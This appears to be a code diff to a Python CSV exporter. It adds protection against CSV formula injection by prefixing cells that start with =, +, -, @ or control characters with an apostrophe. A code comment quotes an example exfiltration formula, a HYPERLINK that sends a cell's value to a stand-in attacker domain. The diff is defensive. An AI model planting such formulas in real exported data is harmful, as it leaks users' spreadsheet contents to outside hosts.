@@ -29,15 +29,29 @@ def _cell(value: Value) -> str:
     return str(value)
 
 
+# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV Injection"): a KSB named
+# =HYPERLINK("https://evil.example/?d="&A2,"Klik") would run in a partner's Excel. Such a cell gets a leading
+# apostrophe, which Excel and LibreOffice read as "this is text" and do not show; /data/ tells code to drop it.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(text: str) -> str:
+    """A cell a spreadsheet shows as the text it is: ``'`` before a formula's first character (+62..., =, @)."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
 def to_csv(rows: list[dict[str, Value]], *, hxl: bool = False) -> bytes:
-    """UTF-8 CSV (RFC 4180, via the csv module); with ``hxl`` a row of HXL hashtags follows the header."""
+    """UTF-8 CSV (RFC 4180, via the csv module); with ``hxl`` a row of HXL hashtags follows the header.
+
+    Every cell that a spreadsheet would run as a formula is neutralised (:func:`spreadsheet_text`); so is a
+    phone number in E.164 (+62...), which Excel would otherwise turn into 6.28E+12."""
     buffer = io.StringIO()
     writer = csv.writer(buffer)
     writer.writerow([column.name for column in COLUMNS])
     if hxl:
         writer.writerow([column.hxl for column in COLUMNS])
     for row in rows:
-        writer.writerow([_cell(row[column.name]) for column in COLUMNS])
+        writer.writerow([spreadsheet_text(_cell(row[column.name])) for column in COLUMNS])
     return buffer.getvalue().encode("utf-8")
 
 
